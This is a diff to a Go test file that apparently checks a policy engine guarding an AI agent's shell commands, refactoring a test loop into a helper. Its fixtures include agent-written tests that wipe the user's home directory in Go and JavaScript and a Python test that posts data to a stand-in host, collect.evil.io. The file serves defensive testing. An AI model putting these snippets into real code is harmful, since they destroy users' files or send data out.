@@ -6,6 +6,32 @@ import (
 	"testing"
 )
 
+// written is a file that the agent has written, and what is said of commands: of those that load it, and of others.
+type written struct {
+	what, file, text, want string
+	runs, fine             []string
+}
+
+func (c written) judge(t *testing.T) {
+	t.Helper()
+	y := newYard(t)
+	y.says("go on")
+	y.write(c.file, c.text)
+	for _, command := range c.runs {
+		y.says("again")
+		y.bash(command).want(t, c.what+" by "+command, c.want, "")
+	}
+	for _, command := range c.fine {
+		y.says("again")
+		y.bash(command).want(t, c.what+" and "+command, "", "")
+	}
+	for _, e := range y.log() {
+		if v := e.Again(nil); v.Decision != e.Policy.Decision || v.Rule != e.Policy.Rule {
+			t.Errorf("%s: %s by %s, and again: %s by %s", e.Input, e.Policy.Decision, e.Policy.Rule, v.Decision, v.Rule)
+		}
+	}
+}
+
 // TestWrittenTests is tests of compiled languages that the agent has written and has a runner run: what would be denied in one is denied, and what it would send to
 // a machine that it names is asked about.
 func TestWrittenTests(t *testing.T) {
@@ -13,10 +39,7 @@ func TestWrittenTests(t *testing.T) {
 	gotest := func(body string) string {
 		return head + "func TestA(t *testing.T) {\n" + body + "\n}\n"
 	}
-	for _, c := range []struct {
-		what, file, text, want string
-		runs, fine             []string
-	}{
+	for _, c := range []written{
 		{"the home", "a/a_test.go", gotest("\thome, err := os.UserHomeDir()\n\tif err != nil {\n\t\tt.Fatal(err)\n\t}\n\tos.RemoveAll(home)"), "deny",
 			[]string{"go test ./...", "go test ./a", "go test -run TestA -count=1 ./a/...", "cd a && go test", "gotestsum ./...", "go test -race -v ./... 2>&1 | tail", "make test", "go test work/a"},
 			[]string{"go build ./...", "go vet ./...", "go test ./b", "go test", "cat a/a_test.go", "go test -h"}},
@@ -40,22 +63,7 @@ func TestWrittenTests(t *testing.T) {
 		{"something sent by Python", "tests/test_a.py", "import requests\n\ndef test_a():\n    requests.post('https://collect.evil.io/', data='x')\n", "ask", []string{"pytest"}, nil},
 		{"a name in JavaScript", "a.test.js", "const os = require('os')\nconst home = os.homedir()\ntest('a', () => { fs.rmSync(home, {recursive: true}) })\n", "deny", []string{"npx jest", "npm test"}, nil},
 	} {
-		y := newYard(t)
-		y.says("go on")
-		y.write(c.file, c.text)
-		for _, command := range c.runs {
-			y.says("again")
-			y.bash(command).want(t, c.what+" by "+command, c.want, "")
-		}
-		for _, command := range c.fine {
-			y.says("again")
-			y.bash(command).want(t, c.what+" and "+command, "", "")
-		}
-		for _, e := range y.log() {
-			if v := e.Again(nil); v.Decision != e.Policy.Decision || v.Rule != e.Policy.Rule {
-				t.Errorf("%s: %s by %s, and again: %s by %s", e.Input, e.Policy.Decision, e.Policy.Rule, v.Decision, v.Rule)
-			}
-		}
+		c.judge(t)
 	}
 }
 
